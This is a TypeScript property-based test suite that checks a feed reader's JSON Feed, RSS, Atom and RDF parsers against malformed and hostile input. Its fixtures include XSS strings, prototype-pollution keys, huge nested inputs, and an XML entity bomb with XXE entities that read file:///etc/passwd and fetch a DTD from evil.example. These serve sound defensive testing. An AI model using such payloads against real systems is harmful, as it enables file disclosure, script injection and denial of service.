import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { feedIdOf } from '$lib/model/ids';
import { kindOfAnswer } from '$lib/sources/answer-kind';
import { MOST_ITEMS } from '$lib/sources/bounds';
import { parseJsonFeed } from '$lib/sources/json-feed/json-feed';
import { parseJson } from '$lib/sources/parse-json';
import { SourceError } from '$lib/sources/source-error';
import { expectHarmless, expectUntouchedPrototypes, INHERITED } from './hostile-posts';
import { inEnglish } from './in-english';
import { errorOf, now, parseAtom, parseRdf, parseRss } from './xml-feeds';

const url = 'https://heron.example/feed';
const parseText = (text: string) => parseJsonFeed({ url, text, mimeType: '' }, { id: feedIdOf(url) }, now);
const parseItems = (...items: unknown[]) =>
	parseText(JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', title: 'T', items }));

const rssOf = (item: string, head = '<title>T</title>') =>
	`<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>${head}<item>${item}</item></channel></rss>`;
const atomOf = (entry: string) =>
	`<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><entry>${entry}</entry></feed>`;

/** Values that break what trusts them. */
const odd = fc.oneof(
	fc.jsonValue({ maxDepth: 3 }),
	fc.constantFrom<unknown>(
		...[
			1e308,
			-0,
			-1,
			2 ** 53 + 2,
			1e-320,
			'NaN',
			'Infinity',
			'1e999',
			'-5',
			'',
			' ',
			'\u202e',
			'\ud83d',
			'\u0000'
		],
		...['275760-09-13T00:00:00Z', '+275760-09-13', '0000-00-00', '9999-12-31T23:59:59Z', '2026-02-30'],
		...[
			'javascript:alert(1)',
			'https://bank.example@evil.example/',
			'data:text/html,x',
			'//',
			'http://[',
			'/../..'
		],
		...['&amp;lt;script&gt;', '<img src=x onerror=alert(1)>', '__proto__', 'constructor', ...INHERITED]
	)
);
const polluting = fc
	.constantFrom(...INHERITED)
	.map((name) => JSON.parse(`{"${name}":{"polluted":1},"name":"${name}"}`) as unknown);

describe('an item of a JSON Feed', { timeout: 30_000 }, () => {
	const members = [
		'id',
		'url',
		'external_url',
		'title',
		'content_html',
		'content_text',
		'summary',
		'image',
		'banner_image',
		'date_published',
		'date_modified',
		'author',
		'authors',
		'tags',
		'language',
		'attachments',
		'_extension',
		...INHERITED
	];
	const inner = fc.dictionary(
		fc.constantFrom(
			'name',
			'url',
			'avatar',
			'mime_type',
			'title',
			'size_in_bytes',
			'duration_in_seconds',
			...INHERITED
		),
		odd
	);
	const value = fc.oneof(odd, inner, fc.array(fc.oneof(inner, odd), { maxLength: 4 }), polluting);

	test('of anything at all is a post that harms nothing', () => {
		fc.assert(
			fc.property(fc.array(fc.dictionary(fc.constantFrom(...members), value), { maxLength: 4 }), (items) => {
				const page = parseItems(...items);
				expect(page.posts.length + page.skipped.length).toBe(items.length);
				for (const post of page.posts) expectHarmless(post);
			})
		);
	});

	test('decodes its texts once, and shows markup as text', () => {
		const { post } = parseItems({
			id: 1,
			title: '&amp;lt;b&amp;gt; <img src=x onerror=alert(1)>',
			authors: [{ name: '&amp;lt;i&amp;gt;' }],
			tags: ['&amp;lt;u&amp;gt;'],
			attachments: [{ url: '/a.mp3', mime_type: 'audio/mpeg', title: '&amp;lt;s&amp;gt;' }]
		}).posts[0]!;
		expect(post.title).toBe('&lt;b&gt; <img src=x onerror=alert(1)>');
		expect(post.authors[0]?.name).toBe('&lt;i&gt;');
		expect(post.categories).toEqual(['&lt;u&gt;']);
		expect(post.attachments[0]?.title).toBe('&lt;s&gt;');
	});

	test('may be in categories and by authors of names that every object has', () => {
		const { post } = parseItems({
			id: '__proto__',
			tags: INHERITED,
			authors: INHERITED.map((name) => ({ name }))
		}).posts[0]!;
		expect(post.guid).toBe('__proto__');
		expect(post.categories).toEqual(INHERITED);
		expect(post.authors.map(({ name }) => name)).toEqual(INHERITED);
	});

	test('with 100,000 tags, authors and files has the first of them, and keeps its text', () => {
		const many = <T>(of: (i: number) => T) => Array.from({ length: 100_000 }, (_, i) => of(i));
		const { post, body } = parseItems({
			id: 1,
			title: 'word '.repeat(2_000_000),
			content_html: '<p>Kept.</p>',
			tags: many((i) => `t${i}`),
			authors: many((i) => ({ name: `a${i}` })),
			attachments: many((i) => ({ url: `/${i}.mp3`, mime_type: 'audio/mpeg' }))
		}).posts[0]!;
		expect([post.categories.length, post.authors.length, post.attachments.length]).toEqual([100, 50, 100]);
		expect(post.title.length).toBeLessThanOrEqual(1000);
		expect(body.text).toBe('Kept.');
		expectHarmless({ post, body });
	});

	test('whose number is too large to be told from its neighbour is known by its address', () => {
		const page = parseText(
			`{"version":"https://jsonfeed.org/version/1.1","items":[{"id":9007199254740993,"url":"/a"},{"id":9007199254740992,"url":"/b"}]}`
		);
		expect(page.posts.map(({ post }) => post.guid)).toEqual([
			'https://heron.example/a',
			'https://heron.example/b'
		]);
	});

	test('of megabytes of HTML is kept whole, and told in a line', () => {
		const html = '<p>Some words.</p>'.repeat(300_000);
		const { post, body } = parseItems({ id: 1, content_html: html }).posts[0]!;
		expect(body.html).toBe(html);
		expect(post.wordCount).toBe(600_000);
		expect(post.excerpt.length).toBeLessThanOrEqual(280);
	});
});

describe('a JSON Feed', { timeout: 30_000 }, () => {
	test('of millions of things that are no items gives some reasons, not millions', () => {
		const page = parseText(
			`{"version":"json feed","title":"T","items":[{"id":"a"},${'1,'.repeat(2_000_000)}1]}`
		);
		expect(page.posts.map(({ post }) => post.guid)).toEqual(['a']);
		expect(page.skipped).toHaveLength(MOST_ITEMS);
		expect(inEnglish(page.skipped).at(-1)?.reason).toContain('those after it are left out');
	});

	test.each([
		['lists', '['.repeat(100_000) + ']'.repeat(100_000)],
		['objects', '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)]
	])('of 100,000 nested %s breaks nothing: the post is kept without them', (_, deep) => {
		const page = parseText(
			`{"version":"json feed","title":"T","deep":${deep},"items":[{"id":"a","title":"A","tags":${deep},"_deep":${deep},"authors":[{"name":${deep}}]}]}`
		);
		expect(page.posts[0]).toMatchObject({ post: { title: 'A', categories: [] }, body: { extensions: null } });
	});

	test('tells of two ids that are the same without what is in them', () => {
		const { skipped } = parseItems({ id: 'a\u202e\n<b>' }, { id: 'a\u202e\n<b>' });
		const reason = inEnglish(skipped)[0]?.reason;
		expect(reason).toBe('Item 2 has the same id as an item before it: a <b>');
	});

	test('describes itself within bounds', () => {
		const { description } = parseText(
			JSON.stringify({
				version: 'json feed',
				title: `\u202e${'t'.repeat(1e6)}`,
				description: 'word '.repeat(1e6),
				language: `en-x-${'abcdefgh-'.repeat(1e5)}a`,
				home_page_url: 'https://bank.example@evil.example/',
				icon: 'javascript:alert(1)',
				authors: [{ name: 'A', url: 'data:text/html,x', avatar: 'file:///a' }],
				items: []
			})
		);
		expect(description).toMatchObject({ homeUrl: 'https://evil.example/', icon: null, language: null });
		expect(description.authors).toEqual([{ name: 'A', url: null, avatar: null }]);
		expect(description.title?.length).toBeLessThanOrEqual(1000);
		expect(description.description?.length).toBeLessThanOrEqual(4000);
	});
});

describe('a feed in XML', { timeout: 30_000 }, () => {
	const text = fc.oneof(
		odd.map((value) => (typeof value === 'string' ? value : JSON.stringify(value))),
		fc.string({ unit: 'binary' })
	);
	const name = fc.constantFrom(
		'title',
		'link',
		'guid',
		'pubDate',
		'author',
		'category',
		'description',
		'content:encoded',
		'enclosure',
		'comments',
		'id',
		'updated',
		'summary',
		'content',
		'source',
		'dc:creator',
		'dc:date',
		'media:content',
		'itunes:duration',
		...INHERITED
	);
	const attribute = fc.tuple(
		fc.constantFrom(
			'url',
			'href',
			'rel',
			'type',
			'length',
			'domain',
			'isPermaLink',
			'term',
			'label',
			'xml:base',
			'xml:lang',
			...INHERITED
		),
		text
	);
	const escaped = (value: string) =>
		value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
	const element = fc
		.tuple(name, fc.array(attribute, { maxLength: 3 }), text, fc.boolean())
		.map(([name, attributes, inner, isRaw]) => {
			const written = attributes.map(([key, value]) => ` ${key}="${escaped(value)}"`).join('');
			return `<${name}${written}>${isRaw ? inner : escaped(inner)}</${name}>`;
		});
	const elements = fc.array(element, { maxLength: 8 }).map((all) => all.join(''));

	test.each([
		['RSS', (inner: string) => parseRss(rssOf(inner))],
		['Atom', (inner: string) => parseAtom(atomOf(inner))],
		[
			'RDF',
			(inner: string) =>
				parseRdf(
					`<rdf:RDF xmlns="http://purl.org/rss/1.0/"><channel><title>T</title></channel><item>${inner}</item></rdf:RDF>`
				)
		]
	])('%s of anything at all is read or refused in words, and its posts harm nothing', (_, parse) => {
		fc.assert(
			fc.property(elements, (inner) => {
				try {
					for (const post of parse(inner).posts) expectHarmless(post);
				} catch (error) {
					expect(error).toBeInstanceOf(SourceError);
				}
				expectUntouchedPrototypes();
			}),
			{ numRuns: 200 }
		);
	});

	test('decodes what is plain by its format once more at most, and what Atom calls text not at all', () => {
		const rss = parseRss(
			rssOf(
				'<title>a &amp;amp;lt;b&gt;</title><category>c &amp;amp;lt;d&gt;</category><dc:creator>e &amp;amp;lt;f&gt;</dc:creator>'
			)
		).posts[0]!.post;
		expect([rss.title, rss.categories[0], rss.authors[0]?.name]).toEqual([
			'a &lt;b>',
			'c &lt;d>',
			'e &lt;f>'
		]);
		const atom = parseAtom(
			atomOf('<id>1</id><title type="text">a &amp;lt;b&gt;</title><category term="c &amp;amp;lt;d&gt;"/>')
		).posts[0]!.post;
		expect([atom.title, atom.categories[0]]).toEqual(['a &lt;b>', 'c &lt;d>']);
	});

	test('uses no entity that it declares itself', () => {
		const bomb =
			'<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">' +
			'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>';
		const { post } = parseRss(bomb + rssOf('<title>One &c; &file;</title>')).posts[0]!;
		expect(post.title).toBe('One &c; &file;');
	});

	test.each(INHERITED)('that has an element or attribute %s gives its other posts all the same', (name) => {
		const attribute = `<title>A</title><link ${name}="y">https://a.example/</link><dc:${name} polluted="1"/>`;
		const element = `<title>B</title><${name}><polluted>1</polluted></${name}>`;
		const page = parseRss(
			rssOf(
				`${attribute}</item><item>${element}</item><item><title>C</title>`,
				`<title>T</title><${name}>z</${name}>`
			)
		);
		expect(page.description.title).toBe('T');
		expect(page.posts[0]?.post).toMatchObject({ title: 'A', url: 'https://a.example/' });
		expect(page.posts.at(-1)?.post.title).toBe('C');
		expect(page.posts.length + page.skipped.length).toBe(3);
		expectUntouchedPrototypes();
	});

	test('of 100,000 nested elements loses the item that holds them, and no other', () => {
		const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
		const page = parseRss(rssOf(`<title>A</title>${deep}</item><item><title>B</title>`));
		expect(page.posts.map(({ post }) => post.title)).toEqual(['B']);
		expect(inEnglish(page.skipped)[0]?.reason).toBe('Item 1 is no post: it is made of too many elements.');
	});

	test('whose outermost tag is endless is read without its attributes', () => {
		const attributes = Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ');
		const page = parseRss(
			rssOf('<title>A</title></item>'.concat('<item><title>B</title></item>'.repeat(2000), '<item>')).replace(
				'<rss',
				`<rss ${attributes}`
			)
		);
		expect(page.posts[0]?.post.title).toBe('A');
	}, 20_000);

	test.each(['<![CDATA[', '<!--', '<?php ', '<!DOCTYPE x [', '<title', '"', '&', ']]>'])(
		'that begins %s again and again and ends nothing is told of in time',
		(mark) => {
			expect(errorOf(() => parseRss(`<rss><channel><item>${mark.repeat(200_000)}`)).code).toBe('invalid-xml');
		},
		20_000
	);
});

describe('an answer whose first element has a name that every object has', { timeout: 30_000 }, () => {
	test.each(INHERITED)('%s is a web page to us, and told so in words', (name) => {
		expect(kindOfAnswer(`<${name}>`)).toBe('html');
		expect(errorOf(() => parseJson(`<${name}>`))).toMatchObject({ code: 'not-a-feed' });
	});
});
